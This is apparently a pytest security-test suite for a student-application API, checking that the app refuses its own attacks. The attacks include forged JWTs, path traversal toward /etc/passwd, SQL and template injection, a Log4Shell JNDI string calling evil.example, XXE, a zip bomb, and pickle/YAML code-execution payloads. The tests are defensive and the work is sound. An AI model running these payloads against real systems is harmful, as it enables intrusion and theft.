"""Attacks by hand: each is refused, and nothing is otherwise afterwards."""

from __future__ import annotations

import asyncio
import base64
import hmac
import io
import json
import re
import zipfile
from collections.abc import Callable, Mapping
from datetime import timedelta
from typing import Any
from uuid import UUID, uuid4

import httpx2
import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric.ec import SECP256R1, generate_private_key
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.asymmetric.rsa import generate_private_key as generate_rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from everybody import GRANT, KEY, PASSWORD, Person, World, operations, requests, store_of, taken_down
from records import PDF

from higherstudy.adapters.tokens.jwt_tokens import JwtTokens
from higherstudy.adapters.tokens.keys import SigningKey
from higherstudy.domain.audit.query import Query
from higherstudy.domain.identity.account import Asker, Role
from higherstudy.domain.identity.confirmation import Purpose
from higherstudy.domain.shared.ids import SessionId
from higherstudy.entrypoints.wiring.containers.every import use_cases_over
from higherstudy.ports.tokens import Refresh

CHANGE = ("POST", "/v1/students/me/documents", {"json": {"kind": "passport"}})
"""What a stolen or made-up sign-in would be good for: it changes something at once."""

THIEF = Person("another student", "helper")
OWNER = Person("the student", "student")
NOBODY = Person("nobody who is signed in")


@pytest.fixture
def world(one_world: World) -> World:
    """One of everything, as before after each attack."""
    return one_world


async def attack(
    world: World, who: Person, method: str, path: str, request: Mapping[str, Any]
) -> tuple[httpx2.Response, bool]:
    """Return the answer, and whether anything is otherwise than before."""
    before = kept(world)
    changed = True

    async def look() -> None:
        nonlocal changed
        changed = kept(world) != before

    answer = await world.ask(who, method, path, request, then=look)
    return answer, changed


def kept(world: World) -> dict[str, Any]:
    """Return what is kept, but for what notes that somebody tried."""
    return {name: rows for name, rows in taken_down(store_of(world.server)).items() if name not in NOTES}


NOTES = {"deeds", "audit", "audit_entries", "answers", "failures"}


# --- tokens


def part(data: Any) -> str:
    return (
        base64.urlsafe_b64encode(data if isinstance(data, bytes) else json.dumps(data).encode()).rstrip(b"=").decode()
    )


def unpart(text: str) -> Any:
    return json.loads(base64.urlsafe_b64decode(text + "=" * (-len(text) % 4)))


Forge = Callable[[World], str]
HEADER = {"alg": "EdDSA", "typ": "at+jwt", "kid": KEY.id}
PUBLIC = KEY.public
OWN = Ed25519PrivateKey.generate()


def claims(world: World, **changed: Any) -> dict[str, Any]:
    """Return what the student's own token says, changed; None takes a claim out."""
    said = unpart(world.tokens["student"].split(".")[1])
    return {name: value for name, value in {**said, **changed}.items() if value is not ...}


def signed(header: Mapping[str, Any], said: Mapping[str, Any], key: Ed25519PrivateKey = KEY.private) -> str:
    head = f"{part(dict(header))}.{part(dict(said))}"
    return f"{head}.{part(key.sign(head.encode()))}"


def with_hmac(world: World, secret: bytes, digest: str = "sha256", **header: Any) -> str:
    head = f"{part({**HEADER, 'alg': 'HS256', **header})}.{part(claims(world))}"
    return f"{head}.{part(hmac.new(secret, head.encode(), digest).digest())}"


def unsigned(alg: str, signature: str = "") -> Forge:
    return lambda world: f"{part({**HEADER, 'alg': alg})}.{part(claims(world))}.{signature}"


def changed_claims(**changed: Any) -> Forge:
    """The student's token with other claims and her signature."""

    def forged(world: World) -> str:
        head, _, signature = world.tokens["student"].split(".")
        return f"{head}.{part(claims(world, **changed))}.{signature}"

    return forged


def ours(header: Mapping[str, Any] | None = None, **changed: Any) -> Forge:
    """Signed by our own key, and still not what the API accepts: what a mistake of ours could issue."""
    return lambda world: signed({**HEADER, **(header or {})}, claims(world, **changed))


def theirs(header: Mapping[str, Any] | None = None, **changed: Any) -> Forge:
    return lambda world: signed({**HEADER, **(header or {})}, claims(world, **changed), OWN)


def mangled(how: Callable[[str, str, str], str]) -> Forge:
    return lambda world: how(*world.tokens["student"].split("."))


def own_jwk() -> dict[str, str]:
    return {"kty": "OKP", "crv": "Ed25519", "x": part(OWN.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw))}


def by_another_algorithm(alg: str) -> Forge:
    def forged(world: World) -> str:
        key: Any = generate_private_key(SECP256R1()) if alg == "ES256" else generate_rsa(65537, 2048)
        return jwt.encode(claims(world), key, alg, headers={"kid": KEY.id, "typ": "at+jwt"})

    return forged


def refresh_token(world: World) -> str:
    session = claims(world)["sid"]
    return JwtTokens(KEY, world.server.clock).issue_refresh(Refresh(session, 1), world.server.clock.now() + DAY)


def of_another_server(world: World) -> str:
    asker = Asker(world.owner, frozenset({Role.STUDENT}), world.student_id)
    return JwtTokens(SigningKey(OWN), world.server.clock).issue(asker, timedelta(hours=1))


DAY = timedelta(days=1)
PEM = PUBLIC.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
RAW = PUBLIC.public_bytes(Encoding.Raw, PublicFormat.Raw)
TOKENS: dict[str, Forge] = {
    **{f"alg {alg!r} without a signature": unsigned(alg) for alg in ("none", "None", "NONE", "nOnE", "", " none")},
    "alg none with a signature": unsigned("none", "AAAA"),
    "alg HS256, the public key in PEM as the secret": lambda w: with_hmac(w, PEM),
    "alg HS256, the raw public key as the secret": lambda w: with_hmac(w, RAW),
    "alg HS256, the public key in hex": lambda w: with_hmac(w, RAW.hex().encode()),
    "alg HS384, the public key in PEM": lambda w: with_hmac(w, PEM, "sha384", alg="HS384"),
    "alg HS512, the raw public key": lambda w: with_hmac(w, RAW, "sha512", alg="HS512"),
    "alg HS256, an empty secret": lambda w: with_hmac(w, b""),
    "alg HS256, a kid that is a file": lambda w: with_hmac(w, b"", kid="../../../../dev/null"),
    "alg HS256, a kid that is SQL": lambda w: with_hmac(w, b"x", kid="x' UNION SELECT 'x"),
    "alg EdDSA with an HMAC": lambda w: with_hmac(w, PEM, alg="EdDSA"),
    "alg ES256, a key of one's own": by_another_algorithm("ES256"),
    "alg RS256, a key of one's own": by_another_algorithm("RS256"),
    "alg PS256, a key of one's own": by_another_algorithm("PS256"),
    "alg Ed448 named, our signature": ours({"alg": "Ed448"}),
    "a key of one's own under our kid": theirs(),
    "a key of one's own, embedded as jwk": theirs({"jwk": own_jwk()}),
    "a key of one's own, behind jku": theirs({"jku": "https://example.org/keys.json", "kid": "mine"}),
    "a key of one's own, behind x5u": theirs({"x5u": "https://example.org/cert.pem", "kid": "mine"}),
    "a kid that nobody knows": ours({"kid": "nobody"}),
    "a kid that is a number": ours({"kid": 7}),
    "a kid that is a list": ours({"kid": [KEY.id]}),
    "no kid": lambda w: signed({"alg": "EdDSA", "typ": "at+jwt"}, claims(w)),
    "no typ": lambda w: signed({"alg": "EdDSA", "kid": KEY.id}, claims(w)),
    "typ of an id token": ours({"typ": "JWT"}),
    "typ of a refresh token": ours({"typ": "rt+jwt"}),
    "a refresh token as an access token": refresh_token,
    "a token of another server": of_another_server,
    "an extension that has to be understood": ours({"crit": ["exp"], "exp": 9999999999}),
    "a payload that is not encoded": ours({"b64": False, "crit": ["b64"]}),
    "another account, the old signature": changed_claims(sub=str(uuid4())),
    "another record, the old signature": changed_claims(student=str(uuid4())),
    "another role, the old signature": changed_claims(roles=["admin"]),
    "another end, the old signature": changed_claims(exp=9999999999),
    "another session, the old signature": changed_claims(sid=str(uuid4())),
    "no signature": mangled(lambda h, p, s: f"{h}.{p}."),
    "no signature and no dot": mangled(lambda h, p, s: f"{h}.{p}"),
    "half a signature": mangled(lambda h, p, s: f"{h}.{p}.{s[: len(s) // 2]}"),
    "a signature with more behind it": mangled(lambda h, p, s: f"{h}.{p}.{s}AAAA"),
    "a fourth part": mangled(lambda h, p, s: f"{h}.{p}.{s}.{s}"),
    "five parts, as if encrypted": mangled(lambda h, p, s: f"{h}.{p}.{s}.{s}.{s}"),
    "the signature in the payload's place": mangled(lambda h, p, s: f"{h}.{s}.{p}"),
    "a bit of the signature": mangled(lambda h, p, s: f"{h}.{p}.{'B' if s[0] != 'B' else 'C'}{s[1:]}"),
    "a token in a token": lambda w: signed(HEADER, claims(w, token=w.tokens["student"]), OWN),
    "another audience": ours(aud="another-api"),
    "no audience": ours(aud=...),
    "another issuer": ours(iss="https://example.org"),
    "no issuer": ours(iss=...),
    "no end": ours(exp=...),
    "an end that is text": ours(exp="tomorrow"),
    "an end before all time": ours(exp=-1),
    "an end beyond all time": ours(exp=10**30),
    "an end that has been": ours(exp=1_000_000_000),
    "a beginning that is still to come": ours(nbf=9_999_999_000),
    "no account": ours(sub=...),
    "an account that is no id": ours(sub="admin"),
    "an account that there is not": ours(sub=str(uuid4())),
    "no session": ours(sid=None),
    "a session that there is not": ours(sid=str(uuid4())),
    "a session of somebody else": lambda w: signed(
        HEADER, claims(w, sid=unpart(w.tokens["helper"].split(".")[1])["sid"])
    ),
    "a session that has ended": lambda w: w.tokens["ended"],
    "a role that there is not": ours(roles=["root"]),
    "claims that are a list": lambda _: _signed_list(),
    "an empty header": lambda w: signed({}, claims(w)),
    "letters that are none of a token": lambda w: w.tokens["student"].replace(".", "։"),
}


def _signed_list() -> str:
    head = f"{part(HEADER)}.{part(['sub'])}"
    return f"{head}.{part(KEY.private.sign(head.encode()))}"


@pytest.mark.parametrize("name", TOKENS)
async def test_a_token_that_is_not_quite_ours_opens_nothing(world: World, name: str) -> None:
    token = TOKENS[name](world)
    method, path, request = CHANGE
    headers = {"Authorization": f"Bearer {token}".encode()}

    answer, changed = await attack(world, NOBODY, method, path, {**request, "headers": headers})

    assert (answer.status_code, answer.json()["code"], changed) == (401, "not_signed_in", False)


CARRIED: dict[str, Callable[[str], dict[str, Any]]] = {
    "in the address": lambda t: {"params": {"access_token": t}},
    "as a token in the address": lambda t: {"params": {"token": t}},
    "in the body": lambda t: {"json": {"kind": "passport", "access_token": t}},
    "as Basic": lambda t: {"headers": {"Authorization": f"Basic {base64.b64encode(t.encode()).decode()}"}},
    "as Digest": lambda t: {"headers": {"Authorization": f"Digest {t}"}},
    "without a scheme": lambda t: {"headers": {"Authorization": t}},
    "behind two schemes": lambda t: {"headers": {"Authorization": f"Bearer Bearer {t}"}},
    "in another header": lambda t: {"headers": {"X-Access-Token": t}},
    "in a proxy's header": lambda t: {"headers": {"X-Forwarded-Access-Token": t}},
    "as a user's id": lambda t: {"headers": {"X-User-Id": str(uuid4())}},
    "in a cookie that is none of ours": lambda t: {"headers": {"Cookie": f"token={t}; access_token={t}; session={t}"}},
    "quoted": lambda t: {"headers": {"Authorization": f'Bearer "{t}"'}},
}


@pytest.mark.parametrize("where", CARRIED)
async def test_a_good_token_is_good_in_its_own_place_alone(world: World, where: str) -> None:
    method, path, request = CHANGE

    given = {**request, **CARRIED[where](world.tokens["student"])}
    answer, changed = await attack(world, NOBODY, method, path, given)

    assert (answer.status_code, changed) == (401, False)


# --- other people's things


OF_A_RECORD = sorted(
    {
        *("get_profile", "change_profile", "judge_shortlist", "judge_programme", "match_catalogue", "unlock_catalogue"),
        *("unlocked_programmes", "list_overrides", "override_finding", "take_back_override", "list_plans", "make_plan"),
        *("add_note", "list_notes", "give_task", "list_tasks", "finish_task", "withdraw_task"),
        *("get_plan", "change_targets", "todays_actions", "board", "checklist", "judge_targets", "report_step"),
        *("assume_durations", "ask_what_if", "explain_step", "estimate_chance", "share_calendar"),
        *("stop_sharing_calendar", "get_calendar", "draw_timeline", "list_documents", "add_document", "get_document"),
        *("upload_version", "answer_document", "check_version", "judge_document", "get_content", "request_upload"),
        *("complete_upload", "get_upload", "list_applications", "start_application", "get_application"),
        *("what_is_missing", "submit_application", "get_receipt", "get_snapshot", "record_outcome", "withdraw"),
        *("list_grants", "offer_grant"),
    }
)  # fmt: skip


@pytest.mark.parametrize("operation", OF_A_RECORD)
async def test_nobody_reaches_what_is_somebody_elses_by_its_id(world: World, operation: str) -> None:
    path, request = requests(world)[operation]
    (method, _, _) = (await operations(world.server))[operation]

    answer, changed = await attack(world, THIEF, method, path, request)

    assert (answer.status_code, changed) == (404, False)
    assert answer.json()["errors"] == []


async def test_who_was_refused_on_whose_record_is_noted(world: World) -> None:
    answer, _ = await attack(world, THIEF, "GET", f"/v1/plans/{world.record.plan}", {})

    async with world.server.ports.transactions() as work:
        noted = [one.entry for one in await work.audit_trail.search(Query(action="access.refused"), 100)]
    ours = [entry for entry in noted if entry.request_id == answer.json()["instance"]]
    assert [(one.actor, one.student_id) for one in ours] == [(world.accounts["helper"].id, world.student_id)]
    assert dict(ours[0].details) == {"doing": "plan.seen", "operation": "get_plan"}
    assert ours[0].address is not None


async def test_who_was_refused_for_want_of_a_role_is_noted(world: World) -> None:
    answer, _ = await attack(world, Person("an administrator by role alone", "admin"), "GET", "/v1/audit/entries", {})

    async with world.server.ports.transactions() as work:
        noted = [one.entry for one in await work.audit_trail.search(Query(action="access.refused"), 100)]
    ours = [entry for entry in noted if entry.request_id == answer.json()["instance"]]
    assert answer.status_code == 403
    assert [(one.actor, one.student_id) for one in ours] == [(world.accounts["admin"].id, None)]
    assert dict(ours[0].details) == {"role": "auditor", "operation": "search_trail"}


# --- fields that are not the sender's to set

OWN_ID = str(uuid4())
ACCOUNT = {"email": "new@example.org", "password": PASSWORD, "name": "NEW"}
SIGN_IN = {"email": "student@example.org", "password": PASSWORD}
MASS: dict[str, tuple[str, str, dict[str, Any], dict[str, Any]]] = {
    **{
        f"registering with {name}": ("POST", "/v1/accounts", ACCOUNT, {name: value})
        for name, value in {
            "roles": ["admin"],
            "role": "admin",
            "id": OWN_ID,
            "student_id": OWN_ID,
            "email_confirmed_at": "2026-01-01T00:00:00Z",
            "password_hash": "x",
            "version": 9,
            "is_admin": True,
            "__class__": "Account",
            "constructor": {"prototype": {"admin": True}},
        }.items()
    },
    **{
        f"a profile with {name}": ("PATCH", "/v1/students/me/profile", {}, {name: value})
        for name, value in {
            "student_id": OWN_ID,
            "account_id": OWN_ID,
            "version": 99,
            "id": OWN_ID,
            "roles": ["admin"],
            "verified": True,
            "__proto__": {"admin": True},
        }.items()
    },
    **{
        f"a paper with {name}": ("POST", "/v1/students/me/documents", {"kind": "passport"}, {name: value})
        for name, value in {
            "student_id": OWN_ID,
            "versions": [],
            "verification": "verified",
            "answer": "does_not_apply",
            "id": OWN_ID,
        }.items()
    },
    **{
        f"a grant with {name}": (
            "POST",
            "/v1/students/me/grants",
            {"email": "b@example.org", "scopes": ["pay"], "until": "2026-11-30T00:00:00Z"},
            {name: value},
        )
        for name, value in {
            "kind": "taken",
            "account_id": OWN_ID,
            "accepted_at": "2026-01-01T00:00:00Z",
            "owner": OWN_ID,
            "student_id": OWN_ID,
        }.items()
    },
    "a sign-in with roles": ("POST", "/v1/sessions", SIGN_IN, {"roles": ["admin"]}),
    "a sign-in into a chosen session": ("POST", "/v1/sessions", SIGN_IN, {"session_id": OWN_ID}),
    "a plan with a student": ("POST", "/v1/students/me/plans", {"targets": []}, {"student_id": OWN_ID}),
}  # fmt: skip


@pytest.mark.parametrize("name", MASS)
async def test_a_field_that_is_not_the_senders_to_set_is_refused_by_its_name(world: World, name: str) -> None:
    method, path, usual, more = MASS[name]
    headers = {"If-Match": '"2"'} if method == "PATCH" else {}

    answer, changed = await attack(world, OWNER, method, path, {"json": {**usual, **more}, "headers": headers})

    assert (answer.status_code, changed) == (422, False)
    assert any(next(iter(more)) in str(one) for one in answer.json()["errors"]), answer.text


# --- paths, names and headers

TRAVERSALS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "..%5c..%5cwindows%5cwin.ini",
    "....//....//etc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "a/../../keys/tokens.pem",
)


@pytest.mark.parametrize("path", TRAVERSALS)
@pytest.mark.parametrize("route", ["/v1/files/", "/v1/calendars/", "/v1/documents/"])
async def test_no_path_leads_out_of_what_is_served(world: World, route: str, path: str) -> None:
    answer, changed = await attack(world, OWNER, "GET", route + path, {})

    assert answer.status_code in (400, 404, 422)
    assert "root:" not in answer.text
    assert not changed


NAMES = (
    "a\r\nSet-Cookie: stolen=1.pdf",
    "a\nX-Injected: 1.pdf",
    'a"; filename="b.exe',
    "../../../home/keys/tokens.pem",
    "..\\..\\boot.ini",
    "cv\u202efdp.exe",
    "a\x00.pdf",
    "con.pdf:stream",
    "=HYPERLINK(1).pdf",
    "<script>alert(1)</script>.pdf",
    "\u0000\u0001\u0002",
    "." * 200,
)


@pytest.mark.parametrize("name", NAMES, ids=ascii)
async def test_the_name_of_a_file_is_only_ever_a_label(world: World, name: str) -> None:
    path = f"/v1/documents/{world.record.document}/versions"
    seen: list[httpx2.Response] = []

    async def look() -> None:
        async with world.server.client(world.tokens["student"]) as client:
            versions = (await client.get(f"/v1/documents/{world.record.document}")).json()["versions"]
            content = f"/v1/documents/{world.record.document}/versions/{len(versions)}/content"
            seen.append(await client.get(content, follow_redirects=True))

    answer = await world.ask(OWNER, "POST", path, {"content": PDF, "params": {"file_name": name}}, then=look)

    if answer.status_code == 201:
        (opened,) = seen
        disposition = opened.headers["content-disposition"]
        assert opened.content == PDF
        assert set(opened.headers) & {"set-cookie", "x-injected"} == set()
        assert re.fullmatch(r"attachment; filename=\"[^\"/\\\\]*\"; filename\*=UTF-8''[A-Za-z0-9%._~-]*", disposition)
        assert not {"%2F", "%5C", "%0D", "%0A", "%E2%80%AE"} & set(re.findall("%[0-9A-F]{2}", disposition))
        assert disposition.endswith(".pdf")
    else:
        assert answer.status_code in (400, 422)


HEADERS: dict[str, dict[str, str]] = {
    "another method": {"X-HTTP-Method-Override": "DELETE", "X-Method-Override": "DELETE", "X-HTTP-Method": "DELETE"},
    "another address": {"X-Original-URL": "/v1/jobs", "X-Rewrite-URL": "/v1/jobs"},
    "another user": {"X-User-Id": str(GRANT), "X-Remote-User": "admin", "Remote-User": "admin"},
    "another host": {"X-Forwarded-Host": "evil.example", "Forwarded": "host=evil.example"},
    "roles": {"X-Roles": "admin", "X-Forwarded-Groups": "admin"},
    "another prefix": {"X-Forwarded-Prefix": "//evil.example"},
}


@pytest.mark.parametrize("name", HEADERS)
async def test_what_a_header_claims_changes_neither_route_nor_person(world: World, name: str) -> None:
    plain = await world.ask(THIEF, "GET", "/v1/me", {})
    answer, changed = await attack(world, THIEF, "GET", "/v1/me", {"headers": HEADERS[name]})

    assert (answer.status_code, answer.content, changed) == (200, plain.content, False)
    assert "evil.example" not in str(answer.headers)


REQUEST_IDS = ("a b", "x" * 65, 'a"b', "<script>", "a;b", "ünicode", "../a")


@pytest.mark.parametrize("given", REQUEST_IDS, ids=ascii)
async def test_an_id_of_a_request_that_is_not_harmless_is_not_repeated(world: World, given: str) -> None:
    answer = await world.ask(OWNER, "GET", "/v1/me", {"headers": {"X-Request-Id": given.encode()}})

    assert answer.headers["x-request-id"] != given
    assert re.fullmatch("[0-9a-f-]{36}", answer.headers["x-request-id"])


# --- text that means something to somebody else

TEXTS = (
    "'; DROP TABLE accounts; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(10)",
    "$ne",
    "%' OR 1=1 --",
    "\\'; --",
    "{0.__class__.__init__.__globals__}",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%(password)s",
    "*)(uid=*))(|(uid=*",
    "<img src=x onerror=alert(1)>",
    "=cmd|' /C calc'!A0",
    "\u2028; \u2029--",
)


@pytest.mark.parametrize("text", TEXTS, ids=ascii)
async def test_a_search_takes_text_as_text(world: World, text: str) -> None:
    answer, changed = await attack(world, NOBODY, "GET", "/v1/programmes", {"params": {"text": text}})

    assert (answer.status_code, answer.json()["items"], changed) == (200, [], False)


@pytest.mark.parametrize("text", TEXTS, ids=ascii)
async def test_a_name_is_given_back_as_it_came_and_says_nothing_to_whoever_draws_it(world: World, text: str) -> None:
    drawn: list[httpx2.Response] = []

    async def look() -> None:
        async with world.server.client(world.tokens["student"]) as client:
            drawn.append(await client.get("/v1/students/me/profile"))
            drawn.append(await client.get(f"/v1/plans/{world.record.plan}/timeline.svg"))
            drawn.append(await client.get(f"/v1/plans/{world.record.plan}/calendar.ics"))

    request = {"json": {"name": text}, "headers": {"If-Match": '"2"'}}
    answer = await world.ask(OWNER, "PATCH", "/v1/students/me/profile", request, then=look)

    profile, picture, calendar = drawn
    assert answer.status_code in (200, 422)
    if answer.status_code == 200:
        assert profile.json()["profile"]["name"] == text
    assert "<img" not in picture.text
    assert "49" not in answer.headers.get("content-language", "")
    assert all(line and line[0] in " ABCDEFGHIJKLMNOPQRSTUVWXYZ" for line in calendar.text.split("\r\n")[:-1])


@pytest.mark.parametrize("place", ["cursor", "limit", "edition"])
@pytest.mark.parametrize("text", TEXTS[:6], ids=ascii)
async def test_a_parameter_that_is_no_text_takes_none(world: World, place: str, text: str) -> None:
    path = f"/v1/students/me/{'matches' if place == 'edition' else 'documents'}"
    answer, changed = await attack(world, OWNER, "GET", path, {"params": {place: text}})

    assert (answer.status_code, changed) == (422, False)


# --- addresses that look like another

LOOK_ALIKES = {
    "upper case": "STUDENT@EXAMPLE.ORG",
    "blanks around": "  student@example.org ",
    "letters of double width": "ｓtudent@example.org",
    "a domain of double width": "student@ｅxample.org",
    "a long s": "ſtudent@example.org",
    "two letters in one": "ﬁrst@example.org",
    "a Cyrillic letter in the name": "studеnt@example.org",
    "a Cyrillic letter in the domain": "student@exаmple.org",
    "a Greek letter in the domain": "student@examplε.org",
    "an invisible joiner": "stu\u200ddent@example.org",
    "a soft hyphen": "stu\u00addent@example.org",
    "a change of direction": "student@example.org\u202e",
    "a full stop of another script": "student@example。org",
    "two at signs": "student@example.org@evil.example",
    "a comment": "student(admin)@example.org",
    "quotes": '"student"@example.org',
    "a second address": "student@example.org,evil@example.org",
    "a line break": "student@example.org\nBcc: evil@example.org",
    "an empty label": "student@example..org",
    "a percent sign as a second route": "student%example.org@evil.example\n",
}


@pytest.mark.parametrize("name", LOOK_ALIKES)
async def test_an_address_that_looks_like_another_opens_no_account_beside_it(world: World, name: str) -> None:
    given = {**ACCOUNT, "email": LOOK_ALIKES[name]}
    answer, changed = await attack(world, NOBODY, "POST", "/v1/accounts", {"json": given})

    assert not changed
    assert answer.status_code in (409, 422), answer.text


# --- the same thing many times at once


async def _at_once(world: World, count: int, ask: Callable[[httpx2.AsyncClient], Any], token: str = "") -> list[int]:
    async with world.server.client(token) as client:
        answers = await asyncio.gather(*(ask(client) for _ in range(count)))
    return sorted(answer.status_code for answer in answers)


async def test_of_many_who_use_one_refresh_token_none_goes_on_with_another_turn(world: World) -> None:
    async with world.server.client() as client:
        account = {"email": "helper@example.org", "password": PASSWORD}
        begun = (await client.post("/v1/sessions", json=account)).json()
    given = {"refresh_token": begun["refresh_token"]}

    statuses = await _at_once(world, 20, lambda client: client.post("/v1/sessions/refresh", json=given))

    async with world.server.ports.transactions() as work:
        kept_session = await work.sessions.get(SessionId(UUID(begun["session_id"])))
    assert set(statuses) <= {201, 401, 409}
    assert kept_session.turn == 2, "one turn further, however many came"


async def test_of_many_who_use_one_code_one_sets_the_password(world: World) -> None:
    code = await use_cases_over(world.server.ports).make_code()(world.accounts["helper"].id, Purpose.RESET_PASSWORD)

    def ask(client: httpx2.AsyncClient) -> Any:
        return client.post(
            "/v1/password-resets/completion", json={"code": code, "password": f"another long one {uuid4().hex}"}
        )

    statuses = await _at_once(world, 20, ask)

    assert [one for one in statuses if one < 300] == [200]
    assert set(statuses[1:]) <= {409, 422, 429}


async def test_of_many_who_accept_one_grant_one_does(world: World) -> None:
    async with world.server.client() as client:
        account = {"email": "counsellor@example.org", "password": PASSWORD}
        token = (await client.post("/v1/sessions", json=account)).json()["access_token"]
    until = (world.server.clock.now() + DAY).isoformat()
    async with world.server.client(world.tokens["student"]) as client:
        offer = {"email": "counsellor@example.org", "scopes": ["pay"], "until": until}
        grant = (await client.post("/v1/students/me/grants", json=offer)).json()["id"]

    statuses = await _at_once(world, 20, lambda c: c.post(f"/v1/grants/{grant}/acceptance"), token)

    assert statuses == [200, *[409] * 19]


# --- bodies that are not what they say


def bomb() -> bytes:
    """A workbook of a few kilobytes that is a gigabyte once it is unpacked."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", b" " * (1 << 28))
    return out.getvalue()


def workbook(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><workbook>&x;</workbook>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a;" * 10 if n == 0 else b"&a%d;" % (n - 1) * 10) for n in range(9))
    + b"]><workbook>&a8;</workbook>"
)
BOOKS: dict[str, bytes] = {
    "a bomb": bomb(),
    "an entity that is a file": workbook(**{"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": XXE}),
    "entities that multiply": workbook(**{"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": LAUGHS}),
    "a part that climbs": workbook(**{"../../evil.xml": b"<a/>", "[Content_Types].xml": b"<Types/>"}),
    "no workbook in it": workbook(**{"a.txt": b"a"}),
    "cut off": bomb()[:2000],
    "no archive": b"PK\x03\x04" + b"\x00" * 200,
    "a program": b"MZ" + b"\x00" * 500,
}


@pytest.mark.parametrize("name", BOOKS)
async def test_a_workbook_that_is_none_is_refused_whole(world: World, name: str) -> None:
    before = await _programmes(world)
    request = {"content": BOOKS[name], "params": {"file_name": "register.xlsx"}}
    answer, _ = await attack(world, Person("admin", "admin"), "POST", "/v1/imports", request)

    said = answer.json()
    assert answer.status_code == 422 or (answer.status_code == 201 and said["state"] == "rejected"), answer.text
    assert "root:" not in answer.text
    assert await _programmes(world) == before


async def _programmes(world: World) -> bytes:
    return (await world.ask(NOBODY, "GET", "/v1/programmes", {})).content


AS_JSON = {"Content-Type": "application/json"}
BODIES: dict[str, dict[str, Any]] = {
    "packed with gzip": {"content": b"\x1f\x8b" + b"\x00" * 50, "headers": {"Content-Encoding": "gzip"}},
    "of another type": {"content": b"kind=passport", "headers": {"Content-Type": "application/x-www-form-urlencoded"}},
    "as a form with parts": {"content": b"--x", "headers": {"Content-Type": "multipart/form-data; boundary=x"}},
    "as text, which needs no leave": {"content": b'{"kind":"passport"}', "headers": {"Content-Type": "text/plain"}},
    "as XML with an entity": {"content": XXE, "headers": {"Content-Type": "application/xml"}},
    "as YAML": {"content": b"!!python/object/apply:os.system ['true']", "headers": {"Content-Type": "text/yaml"}},
    "pickled": {"content": b"cos\nsystem\n(S'true'\ntR.", "headers": {"Content-Type": "application/octet-stream"}},
    "two keys that are one": {"content": b'{"kind":"passport","kind":["x"]}', "headers": AS_JSON},
    "without a type": {"content": b'{"kind":"passport"}'},
    "in UTF-16": {"content": '{"kind":"passport"}'.encode("utf-16"), "headers": AS_JSON},
    "in UTF-7": {"content": b"+AHs-", "headers": {"Content-Type": "application/json; charset=utf-7"}},
    "a number for text": {"json": {"kind": 7}},
    "a list for text": {"json": {"kind": ["passport"]}},
    "true for text": {"json": {"kind": True}},
}  # fmt: skip


@pytest.mark.parametrize("name", BODIES)
async def test_a_body_is_what_it_says_or_nothing(world: World, name: str) -> None:
    answer, changed = await attack(world, OWNER, "POST", "/v1/students/me/documents", BODIES[name])

    assert answer.status_code in (400, 413, 415, 422), answer.text
    assert not changed


def test_there_are_at_least_two_hundred_attacks() -> None:
    tables: tuple[Any, ...] = (
        TOKENS,
        CARRIED,
        OF_A_RECORD,
        MASS,
        NAMES,
        HEADERS,
        REQUEST_IDS,
        TEXTS,
        TEXTS,
        LOOK_ALIKES,
        BOOKS,
        BODIES,
    )

    assert sum(len(table) for table in tables) + 3 * len(TRAVERSALS) >= 200
